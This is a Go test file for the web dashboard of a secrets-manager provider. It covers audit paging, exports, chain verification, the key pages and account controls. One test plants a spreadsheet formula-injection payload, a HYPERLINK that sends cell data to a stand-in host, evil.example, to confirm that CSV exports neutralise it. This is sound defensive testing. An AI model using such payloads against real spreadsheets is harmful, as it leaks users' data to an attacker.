package dashboard

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/pgsecrets/terraform-provider-pgsecrets/internal/audit"
	"github.com/pgsecrets/terraform-provider-pgsecrets/internal/store"
	"github.com/pgsecrets/terraform-provider-pgsecrets/internal/storetest"
)

func TestModelDefaultsShowTheMissingAPIKey(t *testing.T) {
	e := newEnv(t)
	e.put("app", "OPENAI_API_KEY", "sk-proj-1")
	if _, err := e.st.PatchModelDefaults(context.Background(), "app", []store.ModelDefault{
		{UseCase: "chat", Provider: "anthropic", Model: "claude-sonnet-4-5"},
		{UseCase: "code", Provider: "openai", Model: "gpt-4.1"},
		{UseCase: "summary", Provider: "anthropic", Model: "claude-haiku-4-5"},
	}, nil); err != nil {
		t.Fatal(err)
	}
	viewer := e.signedIn("v@example.com", store.RoleViewer)
	r := viewer.get("/models?project=app")
	want(t, r, http.StatusOK, `<main id="models">`, `<tr id="usecase-chat">`, "claude-sonnet-4-5", "gpt-4.1",
		`id="missing-ANTHROPIC_API_KEY"`, "the API key provider <strong>anthropic</strong> needs for chat, summary")
	if strings.Contains(r.body, `id="models-form"`) || strings.Contains(r.body, "missing-OPENAI_API_KEY") {
		t.Fatalf("a viewer gets the form, or a present key is reported missing:\n%s", r.body)
	}

	admin := e.signedIn("root@example.com", store.RoleAdmin)
	want(t, admin.get("/models?project=app"), http.StatusOK, `id="models-form"`, `name="chat_provider"`, `value="anthropic"`)
	want(t, admin.post("/models/app", url.Values{"chat_provider": {"openai"}, "chat_model": {""}}), http.StatusUnprocessableEntity,
		"Chat needs both a provider and a model")
	r = admin.post("/models/app", url.Values{"chat_provider": {"openai"}, "chat_model": {"gpt-4.1"}, "code_provider": {"openai"}, "code_model": {"gpt-4.1"}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("save providers: %d\n%s", r.status, r.body)
	}
	defs, _ := e.st.GetModelDefaults(context.Background(), "app")
	if len(defs) != 2 || defs[0].Provider != "openai" || defs[0].UpdatedBy != "dashboard:root@example.com" {
		t.Fatalf("defaults after save (summary removed): %+v", defs)
	}
	r = admin.get(r.header.Get("Location"))
	want(t, r, http.StatusOK, "Saved the model defaults.")
	if strings.Contains(r.body, "missing-") {
		t.Error("a missing key is reported after switching to a provider whose key is set")
	}
}

func TestAuditPagePagesByKeyWithFilters(t *testing.T) {
	e := newEnv(t)
	for i := range 60 {
		e.put("app", fmt.Sprintf("K%02d", i), "v")
	}
	e.put("other", "K", "v")
	b := e.signedIn("v@example.com", store.RoleViewer)
	r := b.get("/audit?project=app&action=secret.create")
	want(t, r, http.StatusOK, `<table id="audit-events"`, `id="older"`, `<td>K59</td>`)
	if n := strings.Count(r.body, "<tr data-seq="); n != auditPageSize {
		t.Fatalf("first page has %d events", n)
	}
	if strings.Contains(r.body, "<td>K09</td>") || strings.Contains(r.body, "<td>other</td>") {
		t.Fatal("the first page holds old or filtered-out events")
	}
	older := r.body[strings.Index(r.body, `id="older" rel="next" href="`)+len(`id="older" rel="next" href="`):]
	older = strings.ReplaceAll(older[:strings.Index(older, `"`)], "&amp;", "&")
	if !strings.Contains(older, "before=") || !strings.Contains(older, "action=secret.create") || !strings.Contains(older, "project=app") {
		t.Fatalf("next page link %q does not carry the key and the filters", older)
	}
	r = b.get(older)
	if n := strings.Count(r.body, "<tr data-seq="); n != 10 || !strings.Contains(r.body, "<td>K00</td>") || strings.Contains(r.body, `id="older"`) {
		t.Fatalf("second page: %d events\n%s", n, r.body)
	}
	want(t, b.get("/audit?since=yesterday"), http.StatusBadRequest, `Since &#34;yesterday&#34; is not a time`)
	want(t, b.get("/audit?actor=nobody"), http.StatusOK, `id="no-events"`)
	if strings.Contains(b.get("/audit").body, `id="verify-chain"`) {
		t.Error("a viewer is offered chain verification")
	}
}

func TestAuditDownloadUsesTheExportFormatAndIsAudited(t *testing.T) {
	e := newEnv(t)
	e.put("app", "K", "v")
	b := e.signedIn("v@example.com", store.RoleViewer)
	r := b.post("/audit/export", url.Values{"format": {"csv"}, "project": {"app"}})
	if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") ||
		!strings.Contains(r.header.Get("Content-Disposition"), `attachment; filename="pgsecrets-audit-`) {
		t.Fatalf("download: %d %v", r.status, r.header)
	}
	if !strings.HasPrefix(r.body, strings.Join(audit.ExportFields, ",")+"\n") || !strings.Contains(r.body, ",secret.create,app,K,") {
		t.Fatalf("CSV download:\n%s", r.body)
	}
	if got := e.query("select actor || ' ' || details from audit_events where action = 'audit.export'"); got != `dashboard:v@example.com {"format":"csv","project":"app"}` {
		t.Fatalf("audit.export event: %s", got)
	}
	r = b.post("/audit/export", url.Values{"format": {"jsonl"}, "action": {"secret.create"}})
	if r.header.Get("Content-Type") != "application/x-ndjson" || strings.Count(r.body, "\n") != 1 || !strings.Contains(r.body, `"action":"secret.create","project":"app","subject":"K"`) {
		t.Fatalf("JSON lines download:\n%s", r.body)
	}
	want(t, b.post("/audit/export", url.Values{"format": {"xml"}}), http.StatusBadRequest, "use jsonl or csv")
}

// An actor is whatever the user configured: in a download it must not be a
// formula that runs in the spreadsheet it is opened with.
func TestAuditCSVDownloadNeutralisesFormulas(t *testing.T) {
	const hyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	e := newEnv(t)
	if _, err := e.st.WithActor(hyperlink).PutSecret(t.Context(), store.PutSecretInput{Project: "app", Name: "K", Value: []byte("v"), ExpectedRevision: store.AnyRevision}); err != nil {
		t.Fatal(err)
	}
	b := e.signedIn("v@example.com", store.RoleViewer)
	r := b.post("/audit/export", url.Values{"format": {"csv"}})
	want(t, r, http.StatusOK, `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`)
	records, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatalf("CSV download: %v\n%s", err, r.body)
	}
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
	}
	// JSON lines are not read by spreadsheets: they keep the exact text.
	r = b.post("/audit/export", url.Values{"format": {"jsonl"}, "action": {"secret.create"}})
	if !strings.Contains(r.body, `"actor":"=HYPERLINK(\"http://evil.example/?x=\"\u0026A1,\"click\")"`) {
		t.Fatalf("JSON lines download:\n%s", r.body)
	}
}

func TestAuditVerifyShowsTheChainStatusToAdmins(t *testing.T) {
	e := newEnv(t)
	e.put("app", "K", "v")
	admin := e.signedIn("root@example.com", store.RoleAdmin)
	want(t, admin.get("/audit"), http.StatusOK, `id="verify-chain"`)
	want(t, admin.get("/audit/verify"), http.StatusOK, `id="chain-status" data-status="verified"`, `id="chain-head"`)
	// An edited event breaks the chain; the page says so.
	owner := e.db
	if _, err := owner.Exec(context.Background(), "alter table audit_events disable trigger audit_events_append_only"); err != nil {
		t.Fatal(err)
	}
	if _, err := owner.Exec(context.Background(), "update audit_events set actor = 'mallory' where seq = 1"); err != nil {
		t.Fatal(err)
	}
	want(t, admin.get("/audit/verify"), http.StatusConflict, `data-status="broken"`, "audit chain broken at event 1: its MAC does not match its contents")
}

func TestKeysPageListsEachProjectsKeyAndTheRootsThatWrapThem(t *testing.T) {
	e := newEnv(t)
	e.put("app", "K", "v")
	e.put("app", "K", "v2")
	e.put("billing", "K", "v")
	admin := e.signedIn("root@example.com", store.RoleAdmin)
	r := admin.get("/keys")
	app := e.projectKID("app")
	want(t, r, http.StatusOK, `id="key-scheme" data-scheme="project"`, "Each project's new values are encrypted with that project's own key",
		`<table id="project-keys-table">`,
		`<tr id="project-key-`+app+`">`+"\n        <td>app</td>\n        <td><code>"+app+"</code></td>\n        <td>primary</td>\n        <td><code>root-1</code></td>",
		`<tr id="project-key-`+e.projectKID("billing")+`">`,
		// The root encrypts no secret itself: it wraps the two project keys.
		`<table id="keys-table">`, `<tr id="key-root-1">`, "<td>root</td>", "<td>primary</td>",
		`<td class="num">0</td>`+"\n        <td class=\"num\">0</td>\n        <td class=\"num\">0</td>\n        <td class=\"num\">0</td>\n        <td class=\"num\">0</td>\n        <td class=\"num\">2</td>")
	if !regexp.MustCompile(`<tr id="project-key-` + app + `">(?s:.)*?just now</td>\s*<td class="num">1</td>\s*<td class="num">1</td>`).MatchString(r.body) {
		t.Errorf("app's key does not show its age, its secret and its earlier version:\n%s", r.body)
	}
	if strings.Contains(r.body, `<tr id="key-`+app+`">`) {
		t.Error("a project key is listed again among the root and data keys")
	}
	// Nothing on the page is key material, wrapped or not.
	wrapped := e.query("select string_agg(wrapped_key, ' ') from project_keys")
	for _, w := range strings.Fields(wrapped) {
		if strings.Contains(r.body, w) || strings.Contains(r.body, w[len(w)-40:]) {
			t.Fatalf("the page holds a wrapped project key:\n%s", r.body)
		}
	}
	want(t, admin.get("/secrets"), http.StatusOK, `id="tab-keys"`, `id="tab-accounts"`)
}

// A project's keys are the project's metadata: a viewer sees those of the
// projects it may see, and nothing of the root keys, which span them all.
func TestKeysPageShowsAViewerOnlyTheKeysOfItsProjects(t *testing.T) {
	e := newEnv(t)
	e.put("app", "K", "v")
	e.put("billing", "K", "v")
	app, billing := e.projectKID("app"), e.projectKID("billing")

	viewer := e.signedIn("v@example.com", store.RoleViewer, "app")
	want(t, viewer.get("/secrets"), http.StatusOK, `id="tab-keys"`)
	r := viewer.get("/keys")
	want(t, r, http.StatusOK, `<tr id="project-key-`+app+`">`, "<td>app</td>", `data-scheme="project"`)
	for _, hidden := range []string{billing, "billing", `id="keys-table"`, `id="key-root-1"`} {
		if strings.Contains(r.body, hidden) {
			t.Errorf("a viewer of app sees %s:\n%s", hidden, r.body)
		}
	}
	want(t, viewer.get("/keys?project=billing"), http.StatusForbidden, "Cannot see keys in project billing: your account is limited to app.")
	want(t, viewer.get("/keys?project=app"), http.StatusOK, `<tr id="project-key-`+app+`">`)

	// An admin limited to app is no different; an admin of every project,
	// asking for one project, sees that project's keys only.
	limited := e.signedIn("l@example.com", store.RoleAdmin, "app")
	if r := limited.get("/keys"); r.status != http.StatusOK || strings.Contains(r.body, billing) || strings.Contains(r.body, `id="keys-table"`) {
		t.Errorf("an admin limited to app sees billing's key or the root keys:\n%s", r.body)
	}
	admin := e.signedIn("root@example.com", store.RoleAdmin)
	if r := admin.get("/keys?project=app"); r.status != http.StatusOK || strings.Contains(r.body, billing) || !strings.Contains(r.body, app) {
		t.Errorf("an admin's page of project app:\n%s", r.body)
	}
}

// A store upgraded with secrets writes under its store-wide key until
// reencrypt moves it; the page says so, and what to run.
func TestKeysPageSaysAStoreNotYetOnProjectKeysNeedsReencrypt(t *testing.T) {
	e := newEnv(t)
	storetest.MakeLegacy(t, e.db, store.DefaultSchema)
	e.put("app", "K", "v")
	admin := e.signedIn("root@example.com", store.RoleAdmin)
	want(t, admin.get("/keys"), http.StatusOK, `id="key-scheme" data-scheme="store"`,
		"new values are still encrypted with a store-wide key", "Run <code>pgsecrets reencrypt</code> once", `id="no-project-keys"`,
		`<tr id="key-root-1">`)
	moved, err := e.st.UseProjectKeys(context.Background())
	if err != nil || !moved {
		t.Fatalf("move to project keys: %v, %v", moved, err)
	}
	want(t, admin.get("/keys"), http.StatusOK, `data-scheme="project"`)
}

func TestAdminsDisableAndSignOutOtherAccounts(t *testing.T) {
	e := newEnv(t)
	admin := e.signedIn("root@example.com", store.RoleAdmin)
	bob := e.signedIn("bob@example.com", store.RoleEditor, "app")
	r := admin.get("/accounts")
	want(t, r, http.StatusOK, `<table id="accounts-table">`, `<tr id="account-bob@example.com">`, "<td>app</td>", "every project")

	want(t, admin.post("/accounts/signout", url.Values{"email": {"bob@example.com"}}), http.StatusSeeOther)
	if r := bob.get("/secrets"); r.status != http.StatusSeeOther {
		t.Fatal("bob is still signed in")
	}
	bob.signIn("bob@example.com", testPassword)
	want(t, admin.post("/accounts/disable", url.Values{"email": {"bob@example.com"}}), http.StatusSeeOther)
	if r := bob.get("/secrets"); r.status != http.StatusSeeOther {
		t.Fatal("a disabled account is still signed in")
	}
	want(t, bob.signIn("bob@example.com", testPassword), http.StatusUnauthorized, signInFailed)
	want(t, admin.get("/accounts?done=disabled"), http.StatusOK, `<span class="badge disabled">disabled</span>`, `action="/accounts/enable"`)
	want(t, admin.post("/accounts/enable", url.Values{"email": {"bob@example.com"}}), http.StatusSeeOther)
	want(t, bob.signIn("bob@example.com", testPassword), http.StatusSeeOther)

	before := e.snapshot()
	want(t, admin.post("/accounts/disable", url.Values{"email": {"root@example.com"}}), http.StatusConflict, "You cannot disable your own account here")
	want(t, admin.post("/accounts/disable", url.Values{"email": {"nobody@example.com"}}), http.StatusNotFound)
	if e.snapshot() != before {
		t.Fatal("a refused account change changed something")
	}
}

// Actors and subjects may wrap between their parts, and stay text: an
// actor is whatever a writer configured.
func TestAuditPageWrapsActorsBetweenTheirPartsAsText(t *testing.T) {
	e := newEnv(t)
	if _, err := e.otherStore(`ci<b>bot</b>:deploy@example.com`, store.ChannelCLI).PutSecret(context.Background(), store.PutSecretInput{
		Project: "app", Name: "K", Value: []byte("v"), ExpectedRevision: store.MustNotExist}); err != nil {
		t.Fatal(err)
	}
	r := e.signedIn("v@example.com", store.RoleViewer).get("/audit")
	want(t, r, http.StatusOK, `<td>ci&lt;b&gt;bot&lt;/b&gt;:<wbr>deploy<wbr>@example.com</td>`, `<dt>kid:</dt><dd>`+e.projectKID("app")+`</dd>`)
	if strings.Contains(r.body, "<b>bot") {
		t.Fatal("an actor's markup reached the page")
	}
}

// A project's key events are the project's: its viewers read them on the
// audit page as text (the kids a shred destroyed as a list), others do not
// see them.
func TestAuditPageShowsAProjectsKeyEventsToItsViewers(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	e.put("app", "K", "v")
	first := e.projectKID("app")
	second, retired, err := e.st.WithActor("cli-user").RotateProjectKey(ctx, "app")
	if err != nil || retired != first {
		t.Fatalf("rotate app's key: retired %q, %v", retired, err)
	}
	if _, err := e.st.WithActor("cli-user").ShredProject(ctx, "app"); err != nil {
		t.Fatal(err)
	}
	e.put("billing", "K", "v")
	kids := []string{first, second.KID}
	slices.Sort(kids)

	r := e.signedIn("v@example.com", store.RoleViewer, "app").get("/audit?project=app")
	want(t, r, http.StatusOK,
		"<td><code>key.create</code></td>\n        <td>app</td>\n        <td>"+first+"</td>",
		"<dt>scope:</dt><dd>project</dd><dt>state:</dt><dd>primary</dd><dt>wrapping_kid:</dt><dd>root-1</dd>",
		"<td><code>key.update</code></td>\n        <td>app</td>\n        <td>"+first+"</td>",
		"<dt>reason:</dt><dd>rotated</dd><dt>scope:</dt><dd>project</dd><dt>state:</dt><dd>retired</dd>",
		"<td><code>key.create</code></td>\n        <td>app</td>\n        <td>"+second.KID+"</td>",
		"<td><code>project.shred</code></td>\n        <td>app</td>",
		"<dt>kids:</dt><dd>"+strings.Join(kids, ", ")+"</dd><dt>other_kids:</dt><dd>none</dd><dt>secrets:</dt><dd>1</dd><dt>versions:</dt><dd>0</dd>")
	if billing := e.projectKID("billing"); strings.Contains(r.body, billing) {
		t.Error("a viewer of app sees billing's key in the audit trail")
	}
}
